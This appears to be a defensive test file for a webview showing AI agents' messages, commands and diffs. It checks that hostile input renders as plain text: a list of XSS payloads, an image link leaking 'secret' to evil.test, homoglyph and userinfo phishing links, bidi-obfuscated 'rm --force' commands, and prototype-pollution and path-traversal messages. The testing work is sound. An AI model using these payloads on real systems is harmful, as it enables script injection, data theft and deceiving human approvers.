import assert from 'node:assert/strict';
import type { AgentId } from '../../src/shared/ids';
import type { DiffView } from '../../src/shared/protocol';
import { Story } from '../support/webview/story';
import { type TestView, ViewBench, type ViewOptions } from '../support/webview/view';

const hostile = [
  '<img src=x onerror="window.pwned=1">',
  '</script><script>window.pwned=1</script>',
  '<svg/onload=window.pwned=1>',
  '"><iframe src="javascript:window.pwned=1"></iframe>',
  '[click](javascript:window.pwned=1)',
  '[run](command:workbench.action.terminal.new)',
  '![x](http://evil.test/?q=secret)',
  '<math><mtext><style><img src=x onerror=window.pwned=1>',
  '[a]: data:text/html,<script>window.pwned=1</script>\n\n[a]',
  '`$' + '{window.pwned=1}` {{window.pwned=1}}',
];

describe('what models write in the Room', function () {
  this.timeout(60_000);
  let bench: ViewBench;
  let view: TestView;
  before(async () => {
    bench = await ViewBench.start();
  });
  afterEach(() => view?.close());
  after(() => bench.stop());

  const open = async (options: ViewOptions) => {
    view = await bench.open({ height: 4000, ...options });
    await view.settled();
  };
  const pwned = () => view.page.evaluate(() => (window as { pwned?: unknown }).pwned);
  /** Elements that none of our own templates makes. */
  const strangers = () =>
    view.page.evaluate(() => {
      const found: string[] = [];
      const walk = (root: ParentNode) => {
        for (const each of root.querySelectorAll('*')) {
          if (/^(script|iframe|img|object|embed|style|form|math|link|base|meta)$/.test(each.localName))
            found.push(each.outerHTML);
          for (const attribute of each.attributes)
            if (/^on/i.test(attribute.name) || /^\s*(javascript|data|command|vscode):/i.test(attribute.value))
              found.push(each.outerHTML);
          if (each.shadowRoot !== null) walk(each.shadowRoot);
        }
      };
      walk(document.body);
      // The page's own script stands beside the view.
      return found.filter((html) => !/^<script nonce/.test(html) && !/^<style>:host/.test(html));
    });

  it('A21 markup in messages, names, paths, commands, output and diffs is text', async () => {
    const story = new Story();
    const lead = story.begin(hostile[0]);
    for (const text of hostile) {
      story.say('person', [lead], text, 'user');
      const member = story.add(text, lead, text, text);
      const run = story.start(member);
      const call = story.step(run, 'bash', { command: text });
      story.change(call, run, member, text, 1, 1);
      story.say(member, 'all', text);
      story.say(member, [lead], text, 'report', run);
      story.ask(run, call, {
        type: 'permission',
        tool: text,
        argsHash: 'e'.repeat(64),
        why: { code: 'unparsable_command', detail: text },
        preview: { type: 'command', command: text, cwd: text },
      });
    }
    story.commit();
    const lines = hostile.map((text) => ({ mark: '+' as const, text }));
    const diff: DiffView = {
      hunks: [{ id: null, undone: false, oldStart: 1, newStart: 1, lines }],
      added: 1,
      removed: 0,
      cut: 0,
    };
    await open({
      state: story.state,
      answer: (message) =>
        message.type === 'diff' ? { type: 'diff', of: message.of, diff, problem: '' } : null,
    });
    for (const text of hostile) {
      view.feed.live({ agent: 'a0' as AgentId, type: 'text', delta: text });
      view.feed.live({ agent: 'a1' as AgentId, type: 'output', call: 'c0', chunk: text });
    }
    await view.page
      .locator('.streaming')
      .getByText(hostile[0] ?? '', { exact: false })
      .waitFor();
    assert.deepEqual(await strangers(), []);
    await view.page.getByRole('tab', { name: /Tree/ }).click();
    await view.settled();
    assert.deepEqual(await strangers(), []);
    await view.page.getByRole('tab', { name: /Changes/ }).click();
    for (const opener of await view.page.locator('.opener').all()) await opener.click();
    await view.settled();
    assert.deepEqual(await strangers(), []);
    assert.equal(await pwned(), undefined);
    assert.deepEqual(view.complaints, []);
  });

  it('A19 a picture is never fetched and a link leads nowhere by itself: it shows its address and asks the host', async () => {
    const story = new Story();
    const lead = story.begin();
    story.say(
      lead,
      [],
      '![leak](http://evil.test/?q=secret) and [the manual](https://docs.test/a?b=c#d) and https://plain.test',
      'answer',
    );
    story.commit();
    await open({ state: story.state });
    const requests: string[] = [];
    view.page.on('request', (request) => requests.push(request.url()));
    const row = view.page.locator('.row.message');
    assert.equal(
      await row.locator('.markdown').innerText(),
      '![leak](http://evil.test/?q=secret) and the manual (https://docs.test/a?b=c#d) and https://plain.test',
    );
    await row.getByRole('link', { name: 'the manual' }).click();
    await view.settled();
    assert.deepEqual(view.acts, [{ type: 'openLink', url: 'https://docs.test/a?b=c#d' }]);
    assert.equal(view.page.url(), 'http://room.test/');
    assert.deepEqual(requests, []);
  });

  it('A19 the address of a link is the one that would be opened', async () => {
    const story = new Story();
    const lead = story.begin();
    story.say(
      lead,
      [],
      '[https://bank.test](https://bаnk.test/login) [x](https://good.test@evil.test)',
      'answer',
    );
    story.commit();
    await open({ state: story.state });
    assert.equal(
      await view.page.locator('.markdown').innerText(),
      'https://bank.test (https://xn--bnk-6cd.test/login) x (https://good.test@evil.test/)',
    );
  });

  it('a text is shown as it was written when the script that reads markdown can’t be loaded', async () => {
    const story = new Story();
    story.say(story.begin(), [], '**bold** <img src=x>\n\u202eturned', 'answer');
    story.commit();
    await open({ state: story.state, plain: true });
    assert.equal(await view.page.locator('.markdown').innerText(), '**bold** <img src=x>\n⟨U+202E⟩turned');
  });

  it('A25 what is invisible or turns the writing is shown by its number in approvals and diffs', async () => {
    const story = new Story();
    const lead = story.begin();
    const run = story.start(lead);
    const call = story.step(run, 'bash', { command: 'x' });
    story.ask(run, call, {
      type: 'permission',
      tool: 'bash',
      argsHash: 'e'.repeat(64),
      why: { code: 'rule' },
      preview: { type: 'command', command: 'rm \u202Eexe.txt\u202C \u200B--force\u{E0041}', cwd: '.' },
    });
    story.change(call, run, lead, 'src/a\u202Ets.exe', 1, 0);
    story.commit();
    const lines = [{ mark: '+' as const, text: 'if (admin\u2066) {\u2069 /*\u00AD*/ }\r' }];
    const diff: DiffView = {
      hunks: [{ id: null, undone: false, oldStart: 1, newStart: 1, lines }],
      added: 1,
      removed: 0,
      cut: 0,
    };
    await open({
      state: story.state,
      answer: (message) =>
        message.type === 'diff' ? { type: 'diff', of: message.of, diff, problem: '' } : null,
    });
    assert.equal(
      await view.page.locator('pre.command').innerText(),
      'rm U+202Eexe.txtU+202C U+200B--forceU+E0041',
    );
    await view.page.getByRole('tab', { name: /Changes/ }).click();
    const file = view.page.locator('.row.file');
    assert.equal(await file.locator('.path .file').innerText(), 'aU+202Ets.exe');
    await file.locator('.opener').click();
    assert.equal(await file.locator('.plus').innerText(), '+if (adminU+2066) {U+2069 /*U+00AD*/ }');
  });

  it('A22 what the view could not have sent is refused, whatever its shape', async () => {
    const { parseViewMessage } = await import('../../src/shared/viewSchema');
    await open({ state: null });
    const act = (what: unknown) => ({ type: 'act', act: 1, what });
    const bad: unknown[] = [
      null,
      'ready',
      { type: 'ready', tab: 'room', filter: null, extra: 1 },
      { type: 'ready', tab: 'elsewhere', filter: null },
      { type: 'page', list: 'room', from: -1 },
      { type: 'page', list: 'room', from: 1e99 },
      act({ type: 'answerAsk', ask: 'q1', argsHash: 'short', answer: { type: 'allow', scope: 'once' } }),
      act({ type: 'answerAsk', ask: 'q1', answer: { type: 'allow', scope: 'once' } }),
      act({ type: 'answerAsk', ask: 'q1', argsHash: null, answer: { type: 'allow', scope: 'ever' } }),
      act({ type: 'answerAsk', ask: 'q1', argsHash: null, answer: { type: 'raise', to: -5 } }),
      act({ type: 'openDiff', agent: '__proto__', path: 'x' }),
      act({ type: 'undoFile', agent: 'a1' }),
      act({ type: 'shutDown' }),
      act({ type: 'switchSession', session: '../../etc' }),
      JSON.parse('{"type":"act","act":1,"what":{"type":"delegate","__proto__":{"x":1}}}'),
    ];
    assert.deepEqual(
      bad.filter((message) => parseViewMessage(message).ok),
      [],
    );
    assert.equal(parseViewMessage(act({ type: 'stop', name: 'all' })).ok, true);
  });
});
